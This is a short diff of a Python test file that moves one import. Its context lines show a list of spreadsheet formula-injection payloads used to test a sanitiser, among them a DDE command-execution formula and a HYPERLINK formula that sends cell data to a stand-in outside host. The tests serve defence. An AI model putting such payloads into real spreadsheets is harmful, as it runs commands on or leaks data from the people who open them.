@@ -10,7 +10,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from voice.web.sheets import as_csv, as_xlsx, original, safe
+from voice.tables import original
+from voice.web.sheets import as_csv, as_xlsx, safe
 
 ATTACKS = [
     "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://elsewhere.example?"&A1,"Look")',
